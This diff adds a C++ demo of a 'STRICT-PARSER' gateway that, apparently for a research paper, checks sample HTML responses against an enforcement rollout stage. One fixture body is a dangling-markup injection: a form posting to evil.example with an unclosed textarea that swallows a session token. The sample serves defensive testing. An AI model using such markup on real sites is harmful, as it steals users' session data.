@@ -1,0 +1,99 @@
+// A STRICT-PARSER enforcement gateway (paper section 5.3.2), in the style
+// of a reverse proxy: for each incoming HTTP response it parses the body,
+// evaluates the response's STRICT-PARSER header against the current
+// rollout stage, and either forwards the page, forwards it with monitor
+// reports, or replaces it with an error page.
+#include <cstdio>
+#include <string>
+#include <vector>
+
+#include "core/checker.h"
+#include "mitigation/mitigations.h"
+#include "net/http.h"
+
+namespace {
+
+using namespace hv;
+
+struct UpstreamResponse {
+  std::string url;
+  std::string strict_parser_header;  ///< as the site operator configured it
+  std::string body;
+};
+
+std::vector<UpstreamResponse> upstream_responses() {
+  return {
+      {"https://clean.example/", "strict",
+       "<!DOCTYPE html><html><head><title>ok</title></head><body>"
+       "<p>perfectly valid</p></body></html>"},
+      {"https://sloppy.example/", "strict",
+       "<!DOCTYPE html><html><head><title>x</title></head><body>"
+       "<a href=\"/go\"class=\"btn\">go</a></body></html>"},
+      {"https://testing.example/",
+       "default; monitor=https://testing.example/.well-known/violations",
+       "<!DOCTYPE html><html><head><title>x</title></head><body>"
+       "<img/src=\"/i.png\"/alt=\"i\"><div id=a id=b>x</div>"
+       "</body></html>"},
+      {"https://legacy.example/", "unsafe",
+       "<!DOCTYPE html><html><head><title>x</title></head><body>"
+       "<select name=\"c\"><option>old"},
+      {"https://victim.example/", "default",
+       "<!DOCTYPE html><html><head><title>x</title></head><body>"
+       "<form action=\"https://evil.example\"><input type=\"submit\">"
+       "<textarea>\n<p>session token: c4f3</p>"},
+  };
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  const int stage = argc > 1 ? std::atoi(argv[1]) : 1;
+  const core::Checker checker;
+
+  std::printf("STRICT-PARSER gateway, rollout stage %d of %d\n", stage,
+              mitigation::max_enforcement_stage());
+  const auto enforced = mitigation::enforced_list_for_stage(stage);
+  std::printf("enforced list (%zu violations): ", enforced.size());
+  for (const core::Violation violation : enforced) {
+    std::printf("%s ", std::string(core::to_string(violation)).c_str());
+  }
+  std::printf("\n\n");
+
+  for (const UpstreamResponse& upstream : upstream_responses()) {
+    const auto policy =
+        mitigation::parse_strict_parser_header(upstream.strict_parser_header);
+    const core::CheckResult result = checker.check(upstream.body);
+    const auto decision =
+        mitigation::evaluate_strict_parser(policy, result, stage);
+
+    std::printf("%-28s STRICT-PARSER: %-55s -> ", upstream.url.c_str(),
+                upstream.strict_parser_header.c_str());
+    if (decision.blocked) {
+      std::printf("BLOCKED (");
+      for (const core::Violation violation : decision.blocking) {
+        std::printf("%s ", std::string(core::to_string(violation)).c_str());
+      }
+      std::printf("\b); serving the violation error page\n");
+    } else if (result.violating()) {
+      std::printf("forwarded (violations present, not enforced%s)\n",
+                  policy.mode == mitigation::StrictParserMode::kUnsafe
+                      ? "; site opted out"
+                      : " at this stage");
+    } else {
+      std::printf("forwarded (clean)\n");
+    }
+    if (policy.monitor_url.has_value() && !decision.reported.empty()) {
+      std::printf("%-28s POST %s: ", "", policy.monitor_url->c_str());
+      for (const core::Violation violation : decision.reported) {
+        std::printf("%s ", std::string(core::to_string(violation)).c_str());
+      }
+      std::printf("\n");
+    }
+  }
+
+  std::printf("\nRe-run with a stage argument (0-%d) to watch the rollout "
+              "ratchet: ./strict_parser_gateway 5 blocks everything the "
+              "checker flags.\n",
+              mitigation::max_enforcement_stage());
+  return 0;
+}
